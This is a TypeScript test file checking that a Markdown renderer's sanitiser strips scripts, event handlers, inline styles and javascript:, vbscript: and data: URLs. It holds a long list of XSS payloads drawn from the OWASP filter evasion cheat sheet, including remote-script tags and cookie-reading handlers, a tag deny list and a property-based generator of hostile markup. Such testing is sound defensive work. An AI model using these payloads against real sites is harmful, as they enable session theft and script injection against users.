import fc from 'fast-check';
import type { Element, Root } from 'hast';
import { visit } from 'unist-util-visit';
import { describe, expect, it } from 'vitest';
import { uiStrings } from '../i18n';
import { renderMarkdown } from './render-markdown';

const labels = uiStrings('en');
const render = (markdown: string) =>
  renderMarkdown(markdown, {
    labels,
    templates: { siteUrl: 'https://notes.example.org', basePath: '', siteTitle: 'confnotes', resolvePost: () => undefined, liquid: true },
  }).tree;

const URL_PROPERTIES = ['href', 'src', 'action', 'itemType', 'formAction', 'background', 'data', 'dynsrc', 'lowsrc', 'poster', 'cite', 'longDesc', 'xLinkHref', 'srcSet', 'codeBase', 'manifest'];
const FORBIDDEN_TAGS = new Set(['script', 'style', 'object', 'embed', 'applet', 'form', 'button', 'textarea', 'select', 'base', 'link', 'meta', 'svg', 'math', 'frame', 'frameset', 'title', 'xmp', 'template']);
const DANGEROUS_URL = /^\s*(javascript|vbscript|data\s*:\s*text\/html|data)\s*:/i;

/** What may never be in a rendered post: script elements, handlers, inline style, script URLs. */
function violations(tree: Root): string[] {
  const found: string[] = [];
  visit(tree, 'element', (node: Element) => {
    if (FORBIDDEN_TAGS.has(node.tagName)) found.push(`<${node.tagName}>`);
    if (node.tagName === 'iframe' && !String(node.properties.src ?? '').startsWith('https://')) found.push('iframe without https');
    for (const [name, value] of Object.entries(node.properties)) {
      if (/^on/i.test(name)) found.push(`${node.tagName}[${name}]`);
      if (name === 'style') found.push(`${node.tagName}[style]`);
      const text = Array.isArray(value) ? value.join(' ') : String(value ?? '');
      if (URL_PROPERTIES.includes(name) && DANGEROUS_URL.test(text.replace(/[\u0000-\u0020]/g, ''))) found.push(`${node.tagName}[${name}=${text}]`);
    }
  });
  return found;
}

// The XSS Filter Evasion Cheat Sheet (OWASP), the vectors that apply to HTML in Markdown, plus Markdown's own.
const OWASP_VECTORS = [
  `<SCRIPT SRC=https://cdn.example.org/xss.js></SCRIPT>`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<a onmouseover=alert(document.cookie)>xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC= onmouseover="alert('xxs')">`,
  `<IMG onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`,
  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
  `<IMG SRC="jav\tascript:alert('XSS');">`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`,
  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
  `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=alert("XSS")>`,
  `<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`,
  `<SCRIPT SRC=//xss.rocks/.j>`,
  `<IMG SRC="\`<javascript:alert>\`('XSS')"`,
  `<iframe src=http://xss.rocks/scriptlet.html <`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<IMG DYNSRC="javascript:alert('XSS')">`,
  `<IMG LOWSRC="javascript:alert('XSS')">`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<svg/onload=alert('XSS')>`,
  `<BODY ONLOAD=alert('XSS')>`,
  `<BGSOUND SRC="javascript:alert('XSS');">`,
  `<BR SIZE="&{alert('XSS')}">`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`,
  `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<DIV STYLE="width: expression(alert('XSS'));">`,
  `<BASE HREF="javascript:alert('XSS');//">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  `<a href="vbscript:msgbox('XSS')">vb</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>`,
  `<a href="&#x6A;avascript:alert(1)">entity</a>`,
  `<a href="java&#x0A;script:alert(1)">split</a>`,
  `<details open ontoggle=alert(1)>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<form><button formaction=javascript:alert(1)>x</button></form>`,
  `<x onclick=alert(1)>click`,
  `<video><source onerror="alert(1)"></video>`,
  `<img src="x" srcset="javascript:alert(1) 1x">`,
  `[markdown link](javascript:alert(1))`,
  `[spaced](  JAVASCRIPT:alert(1) )`,
  `![image](javascript:alert(1))`,
  `[ref][xss]\n\n[xss]: javascript:alert(1)`,
  `<javascript:alert(1)>`,
  `[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `{% include evil.html %}{{ "<script>alert(1)</script>" }}`,
  `{{< figure src="javascript:alert(1)" caption="x" >}}`,
  `## Heading {: onclick="alert(1)" style="x"}`,
  `<div markdown="1" onclick="alert(1)">\n*x*\n</div>`,
];

describe('the sanitiser against the OWASP XSS filter evasion cheat sheet', () => {
  it.each(OWASP_VECTORS.map((vector) => [vector]))('%s', (vector) => {
    expect(violations(render(vector))).toEqual([]);
  });
});

describe('the sanitiser on generated Markdown and HTML (fast-check)', () => {
  const id = fc.stringMatching(/^[a-z][a-z0-9-]{0,11}$/);
  const scheme = fc.constantFrom('javascript:', 'JaVaScRiPt:', ' javascript:', 'vbscript:', 'data:text/html,', 'data:', 'https://', '/', '#', 'jav&#x09;ascript:', '&#106;avascript:');
  const payload = fc.constantFrom('alert(1)', 'example.org/x', '%3Cscript%3E', '');
  const url = fc.tuple(scheme, payload).map(([left, right]) => `${left}${right}`);
  const tag = fc.constantFrom('a', 'img', 'div', 'input', 'blockquote', 'q', 'del', 'span', 'iframe', 'script', 'style', 'svg', 'details', 'p', 'video', 'object', 'form', 'h3', 'td', 'math', 'template');
  const attribute = fc.oneof(
    fc.tuple(fc.constantFrom('onclick', 'onerror', 'ONLOAD', 'onmouseover', 'ontoggle', 'style', 'formaction'), fc.constantFrom('alert(1)', 'x:expression(alert(1))')).map(([name, value]) => `${name}="${value}"`),
    fc.tuple(fc.constantFrom('href', 'src', 'action', 'background', 'data', 'poster', 'xlink:href', 'srcset', 'itemtype', 'cite', 'longdesc'), url).map(([name, value]) => `${name}="${value}"`),
    id.map((value) => `id="${value}"`),
    id.map((value) => `class="${value}"`),
  );
  // Text without markup characters: the anchor invariant holds for balanced HTML (an unclosed <a> in one
  // paragraph legitimately swallows what follows, as in any HTML parser).
  const text = fc.stringMatching(/^[\w .,:;!?中文テスト한국]{0,12}$/);
  const element = fc.tuple(tag, fc.array(attribute, { maxLength: 4 }), text).map(([name, attributes, text]) => `<${name} ${attributes.join(' ')}>${text}</${name}>`);
  const markdown = fc.oneof(
    url.map((target) => `[link](${target})`),
    url.map((target) => `![image](${target})`),
    text.map((heading) => `## ${heading}`),
    text,
    fc.constantFrom('{{ site.url }}', '{% raw %}<script>x</script>{% endraw %}', '{{< youtube abc >}}', '{: onclick="x"}', '> quote', '* item <br>', '```\n<script>\n```'),
    element,
  );
  // Legacy anchors the author declares: each must come out as that heading's id.
  const anchoredHeading = id.map((value) => ({ value, markdown: `<h3><a name="legacy-${value}" class="anchor"></a>Section ${value}</h3>` }));

  it('never lets script through, and keeps every legacy anchor id', () => {
    fc.assert(
      fc.property(fc.array(markdown, { maxLength: 12 }), fc.array(anchoredHeading, { maxLength: 3 }), (blocks, anchors) => {
        const input = [...blocks, ...anchors.map((anchor) => anchor.markdown)].join('\n\n');
        const tree = render(input);
        expect(violations(tree)).toEqual([]);
        const ids = new Set<string>();
        visit(tree, 'element', (node: Element) => {
          if (typeof node.properties.id === 'string') ids.add(node.properties.id);
        });
        for (const anchor of anchors) expect(ids).toContain(`legacy-${anchor.value}`);
      }),
      { numRuns: 300 },
    );
  });
});
